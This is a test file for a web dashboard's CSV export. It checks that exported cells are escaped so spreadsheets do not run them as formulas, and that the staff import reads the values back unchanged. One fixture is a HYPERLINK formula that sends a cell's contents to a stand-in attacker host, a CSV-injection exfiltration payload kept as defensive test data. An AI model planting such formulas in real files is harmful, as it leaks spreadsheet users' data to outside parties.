import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { NextRequest } from 'next/server';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import * as t from '@/db/core/schema';
import { readProjectCsv } from '@/db/projects/csv-import';
import { installTestDatabase } from '@/lib/test/test-database';
import { actAs } from '@/lib/test/request-context';
import { GET } from './route';

vi.mock('next/headers', () => import('@/lib/test/request-context'));

const CODE = 'RAIL-HUANGTAI-CONNECTING-LINE';
// What a spreadsheet would run as a formula, and a name that only looks like an escaped one.
const NAME_ZH = '=HYPERLINK("http://attacker.example/?"&A1,"详情")';
const NAME_EN = "'@SUM(1+1)";

beforeEach(() => {
  const db = installTestDatabase({ seed: true });
  db.update(t.projects).set({ nameZh: NAME_ZH, nameEn: NAME_EN }).where(eq(t.projects.code, CODE)).run();
  actAs(null);
});

const exported = async () => (await GET(new NextRequest('http://localhost/dashboard/export?format=csv'))).text();

describe('GET /dashboard/export?format=csv', () => {
  it('writes no cell a spreadsheet would run as a formula', async () => {
    const text = await exported();
    const line = text.split('\n').find((l) => l.startsWith(CODE))!;
    expect(line).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""详情"")"`);
    expect(line).toContain(`''@SUM(1+1)`);
    for (const cell of (parse(text, { bom: true }) as string[][]).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is read back by the staff import as the values that were exported', async () => {
    const read = readProjectCsv(await exported());
    expect(read.error).toBeUndefined();
    expect(read.rows!.find((r) => r.code === CODE)!.input).toMatchObject({ nameZh: NAME_ZH, nameEn: NAME_EN });
  });
});
